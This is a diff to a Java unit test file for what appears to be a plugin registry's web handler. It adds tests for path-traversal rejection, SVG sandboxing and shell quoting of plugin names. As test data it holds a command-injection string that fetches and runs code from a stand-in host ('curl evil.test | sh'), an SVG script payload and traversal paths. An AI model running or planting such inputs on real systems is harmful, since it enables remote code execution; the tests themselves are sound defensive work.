@@ -6,6 +6,7 @@ import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.node.ObjectNode;
 import io.weir.registry.http.Json;
 import io.weir.registry.http.RegistryRequest;
 import io.weir.registry.http.RegistryResponse;
@@ -166,9 +167,50 @@ class MarketHandlerTest {
   void anIconIsOfTheApiOnly() throws IOException {
     for (String of :
         List.of(
-            "https://evil.example/x", "//evil.example/api/v1/x", "/api/v1/../../v2/x", "/v2/")) {
+            "https://evil.example/x",
+            "//evil.example/api/v1/x",
+            "/api/v1/../../v2/x",
+            "/v2/",
+            "/api/v1/x",
+            "/api/v1/housekeeping/gc")) {
       assertEquals(404, get("/icon", Map.of("of", of)).status(), of);
     }
+  }
+
+  @Test
+  void aPageIsOfARepositoryOnly() throws IOException {
+    api.add(plugin("plugins/demo", "auth"));
+
+    for (String name :
+        List.of("", "/", "plugins/demo/-/readme", "plugins/demo/-/icon", "..", "A")) {
+      assertEquals(404, get("/plugin/" + name, Map.of()).status(), name);
+      assertEquals(404, get("/configure/" + name, Map.of()).status(), name);
+      assertEquals(404, post("/validate/" + name, "a=b").status(), name);
+    }
+  }
+
+  /** An SVG that is opened by itself runs nothing and loads nothing. */
+  @Test
+  void anIconStaysInItsSandbox() throws IOException {
+    String path = "/api/v1/plugins/plugins/demo/-/icon";
+    api.pictures.put(path, "<svg><script>alert(1)</script></svg>");
+
+    RegistryResponse icon = get("/icon", Map.of("of", path));
+
+    assertEquals(200, icon.status());
+    String policy = icon.headers().getOrDefault("Content-Security-Policy", "");
+    assertTrue(policy.contains("sandbox") && !policy.contains("script-src"), policy);
+  }
+
+  /** A name that is copied into a shell stays a name. */
+  @Test
+  void quotesForTheShell() throws IOException {
+    ObjectNode plugin = (ObjectNode) plugin("plugins/demo", "auth");
+    api.add(plugin.put("name", "x; curl evil.test | sh; echo 'y"));
+
+    String page = text(get("/plugin/plugins/demo", Map.of())).replace("&#39;", "'");
+
+    assertTrue(page.contains("bind ROUTE 'x; curl evil.test | sh; echo '\\''y' --url"), page);
   }
 
   private RegistryResponse get(String path, Map<String, String> query) throws IOException {
